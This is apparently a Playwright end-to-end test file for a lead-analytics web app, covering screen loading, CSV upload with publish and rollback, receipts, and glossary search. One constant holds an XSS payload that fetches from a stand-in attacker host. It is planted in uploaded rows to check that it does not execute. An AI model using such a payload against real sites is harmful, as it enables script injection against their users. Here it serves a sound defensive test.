"""Upload in a browser: dropped, previewed, published, and back; the screens around it open."""

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from data.status import StoreStatus, status
from tests.end_to_end.visits import WAIT, visit
from tests.sessions import Server, serving

pytestmark = pytest.mark.browser

SCREENS = {"lead_sources": "Every number of every source", "definitions": "Weighted pipeline",
           "data": "What the load holds"}  # fmt: skip
TAG = "<img src=x onerror=fetch('//evil.invalid/a')>"


@pytest.fixture(scope="module")
def store(demo: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the demo store that these tests may change."""
    copied = tmp_path_factory.mktemp("upload") / "store"
    shutil.copytree(demo, copied)
    return copied


@pytest.fixture(scope="module")
def own(store: Path) -> Iterator[Server]:
    """The app on that copy."""
    with serving(store) as server:
        yield server


@pytest.mark.parametrize("is_dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("path", SCREENS)
def test_a_screen_opens_by_its_own_address(
    app: Server, browser: Browser, path: str, is_dark: bool
) -> None:
    seen = visit(browser, app.port, path, is_dark=is_dark)
    seen.see(SCREENS[path])
    assert seen.width_beyond() <= 0, "the page scrolls sideways at 1280 pixels"
    assert seen.strangers == []
    assert seen.faults == []
    seen.close()


def test_an_upload_is_previewed_published_and_taken_back(
    own: Server, store: Path, browser: Browser, tmp_path: Path
) -> None:
    before = status(store)
    rows = "".join(f"U{number},2026-11-{number % 9 + 1:02},{TAG}\n" for number in range(30))
    file = tmp_path / "leads.csv"
    file.write_text(f"lead_id,created_at,source\n{rows}U99,never,Web\n", encoding="utf-8")

    seen = visit(browser, own.port, "data")
    asked: list[str] = []
    seen.page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
    seen.page.locator("input[type=file]").set_input_files(file)
    seen.see("1 file read as canonical; 1 row would stay out")
    assert status(store) == before

    seen.page.get_by_role("button", name="Load and publish").click()
    seen.see("Published 1 file in")
    loaded = status(store)
    assert loaded.seq == before.seq + 1
    assert leads(loaded) == leads(before) + 30
    seen.see(f"load {loaded.seq} ({loaded.fingerprint[:8]})")

    seen.page.get_by_role("button", name=f"Go back to load {before.seq}").click()
    dialog = seen.page.get_by_role("dialog")
    dialog.get_by_text("is removed").wait_for(timeout=WAIT)
    dialog.get_by_role("button", name=f"Go back to load {before.seq}").click()
    seen.see(f"Load {before.seq} is published again")
    assert status(store) == before
    assert seen.strangers == []
    assert seen.faults == []
    assert asked == []
    seen.close()


def leads(found: StoreStatus) -> int:
    """The leads of a load."""
    return next(one.rows for one in found.tables if one.name == "leads")


def test_a_number_of_a_source_opens_its_receipt(app: Server, browser: Browser) -> None:
    seen = visit(browser, app.port, "lead_sources?period=2026-Q3")
    grid = seen.page.locator(".st-key-sources_grid .dvn-scroller")
    grid.wait_for(timeout=WAIT)
    seen.see("The leads handed over")
    seen.settle()
    grid.click(position={"x": 470, "y": 53})
    seen.page.wait_for_selector(".t-receipt", timeout=WAIT)
    text = seen.page.inner_text(".t-receipt")
    assert "Acceptance rate, Q3 2026" in text
    assert "source=Paid search" in text
    seen.close()


def test_a_search_finds_a_definition(app: Server, browser: Browser) -> None:
    seen = visit(browser, app.port, "definitions?kpi=win_rate")
    assert seen.page.inner_text(".t-definition h2") == "Win rate"
    seen.page.locator(".st-key-definitions_search input").fill("kaplan")
    seen.page.wait_for_function(
        "() => document.querySelectorAll('.t-glossary details').length === 1", timeout=WAIT
    )
    assert seen.page.inner_text(".t-glossary .t-term") == "Median response time"
    seen.close()
